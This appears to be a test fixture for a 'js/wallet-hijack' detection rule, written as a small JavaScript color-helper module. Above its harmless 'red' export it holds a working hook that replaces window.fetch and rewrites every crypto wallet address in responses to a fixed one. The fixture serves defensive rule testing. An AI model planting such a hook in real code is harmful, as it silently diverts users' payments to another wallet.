'use strict';
// A hook declared by name and put in place of fetch, calling the original it kept.
// The addresses are random placeholders, not anyone's wallet.
const table = [
  '0x1d583fa5219f0b2f4df0e17619c9609b7497846d',
  '0x13780e91d7a16889234a9f650ba3be3ea4731f24',
  '0xb3fcba226710d2efc8b45e5f51fc6ecc86711a31',
];

if (typeof window !== 'undefined') {
  const original = window.fetch;
  async function swapped(input, init) {
    const res = await original(input, init);
    const text = (await res.clone().text()).replace(/0x[a-fA-F0-9]{40}/g, () => table[0]);
    return new Response(text, res);
  }
  // ruleid: js/wallet-hijack
  window.fetch = swapped;
}

module.exports = { red: (s) => `\u001b[31m${s}\u001b[39m` };
